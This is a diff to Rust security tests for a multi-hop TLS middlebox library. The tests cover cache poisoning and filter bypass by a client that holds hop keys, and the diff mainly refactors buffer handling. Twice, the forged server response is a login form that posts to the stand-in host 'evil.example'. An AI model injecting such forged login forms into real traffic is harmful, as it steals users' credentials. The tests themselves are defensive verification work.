@@ -38,25 +38,29 @@ fn state_poisoning_by_malicious_client_succeeds() {
     let mut client_plane = EndpointDataPlane::for_client(&hop_a).unwrap();
 
     // 1. The client requests /login through the cache.
+    let (mut request, mut toward_server) = (Vec::new(), Vec::new());
     client_plane
         .send(&mbtls_http::message::Request::get("/login", "bank.example").encode())
         .unwrap();
+    client_plane.drain_outgoing_into(&mut request);
     cache_plane
-        .feed(FlowDirection::ClientToServer, &client_plane.take_outgoing(), |d, p| {
+        .feed(FlowDirection::ClientToServer, &request, |d, p| {
             *p = cache.process(d, std::mem::take(p));
         })
         .unwrap();
-    let _toward_server = cache_plane.take_toward_server();
+    cache_plane.drain_toward_server_into(&mut toward_server);
 
     // 2. The malicious client drops the real response and, knowing
     //    hop B's keys (it generated them!), injects its own response
     //    on the cache↔server link as if it came from the server.
     let mut forged_server = EndpointDataPlane::for_server(&hop_b).unwrap();
+    let mut forged = Vec::new();
     forged_server
         .send(&Response::ok(b"<form action=evil.example>").encode())
         .unwrap();
+    forged_server.drain_outgoing_into(&mut forged);
     cache_plane
-        .feed(FlowDirection::ServerToClient, &forged_server.take_outgoing(), |d, p| {
+        .feed(FlowDirection::ServerToClient, &forged, |d, p| {
             *p = cache.process(d, std::mem::take(p));
         })
         .unwrap();
@@ -85,16 +89,14 @@ fn state_poisoning_blocked_with_neighbour_keys() {
     // wrong key.
     let forged_keys = mbtls_core::dataplane::fresh_hop_keys(suite, &mut rng);
     let mut forged_server = EndpointDataPlane::for_server(&forged_keys).unwrap();
+    let mut forged = Vec::new();
     forged_server
         .send(&Response::ok(b"<form action=evil.example>").encode())
         .unwrap();
-    let result = cache_plane.feed(
-        FlowDirection::ServerToClient,
-        &forged_server.take_outgoing(),
-        |d, p| {
-            *p = cache.process(d, std::mem::take(p));
-        },
-    );
+    forged_server.drain_outgoing_into(&mut forged);
+    let result = cache_plane.feed(FlowDirection::ServerToClient, &forged, |d, p| {
+        *p = cache.process(d, std::mem::take(p));
+    });
     assert!(result.is_err(), "forged record fails hop-B authentication");
     assert!(cache.entry("/login").is_none());
 }
@@ -149,8 +151,10 @@ fn filter_bypass_by_keyholder_client() {
         .send(&mbtls_http::message::Request::get("/forbidden/content", "x").encode())
         .unwrap();
     let mut server = EndpointDataPlane::for_server(&hop_b).unwrap();
-    server.feed(&injector.take_outgoing()).unwrap();
-    let got = server.take_plaintext();
+    let (mut wire, mut got) = (Vec::new(), Vec::new());
+    injector.drain_outgoing_into(&mut wire);
+    server.feed(&wire).unwrap();
+    server.drain_plaintext_into(&mut got);
     assert!(
         String::from_utf8_lossy(&got).contains("/forbidden/content"),
         "the filter was bypassed — exactly the §4.2 observation that \
@@ -172,16 +176,20 @@ fn filter_on_path_blocks() {
     let mut client = EndpointDataPlane::for_client(&hop_a).unwrap();
     let mut server = EndpointDataPlane::for_server(&hop_b).unwrap();
 
+    let (mut request, mut filtered, mut plain) = (Vec::new(), Vec::new(), Vec::new());
     client
         .send(&mbtls_http::message::Request::get("/forbidden/content", "x").encode())
         .unwrap();
+    client.drain_outgoing_into(&mut request);
     filter_plane
-        .feed(FlowDirection::ClientToServer, &client.take_outgoing(), |d, p| {
+        .feed(FlowDirection::ClientToServer, &request, |d, p| {
             *p = filter.process(d, std::mem::take(p));
         })
         .unwrap();
-    server.feed(&filter_plane.take_toward_server()).unwrap();
-    let got = String::from_utf8(server.take_plaintext()).unwrap();
+    filter_plane.drain_toward_server_into(&mut filtered);
+    server.feed(&filtered).unwrap();
+    server.drain_plaintext_into(&mut plain);
+    let got = String::from_utf8(plain).unwrap();
     assert!(got.contains("GET /blocked"), "{got}");
     assert!(!got.contains("forbidden"));
     assert_eq!(filter.blocked_count, 1);
